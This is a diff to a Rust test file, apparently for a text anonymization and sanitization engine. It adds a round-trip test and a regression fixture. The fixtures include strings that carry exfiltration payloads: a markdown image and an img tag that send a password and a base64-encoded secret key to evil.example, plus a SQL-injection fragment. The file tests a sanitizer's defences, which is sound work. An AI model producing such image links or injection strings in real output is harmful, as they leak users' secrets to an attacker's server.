@@ -91,6 +91,14 @@ fn what_was_made_anonymous_comes_back_whole_streamed_and_in_arguments() {
 }
 
 #[test]
+fn each_of_two_values_that_overlap_is_changed_wherever_it_stands() {
+    let engine = laws::everything(Direction::Input, Verb::Transform("anonymize"));
+    let street = "Via Roma 12, 00184 Roma";
+    let text = format!("We drove 45 more.\u{ffff}\u{baba}{}", street.repeat(6));
+    laws::what_was_made_anonymous_comes_back(&engine, ["so", &text], &[]);
+}
+
+#[test]
 fn surrogates_of_any_text_lead_back_to_it() {
     let engine = laws::everything(Direction::Input, Verb::Transform("surrogate"));
     let cuts = prop::collection::vec(0_u8..40, 0..6);
@@ -199,6 +207,11 @@ const BROKEN_ONCE: &[(&str, &str, &[u8])] = &[
     ("code", "A reunion select a, b from t--", &[9]),
     // A tag behind many signs that open none was let go.
     ("link", "<<<<<<<<<6<\0 <img src=\"https://evil.example/p?q=the+user+password+is+hunter2\"> and", &[24]),
+    (
+        "link",
+        "url(ng](Done! ![loading](https://evil.example/log.png?data=c2VjcmV0IGtleSBpcyBhYmMxMjM0NTY3array[0](x) and [a]) so",
+        &[100],
+    ),
     // So was a form of address in capitals.
     ("title", "DEAR MRS. BERG, come", &[9]),
     ("title", "職Prof. Édouard Roche", &[8]),
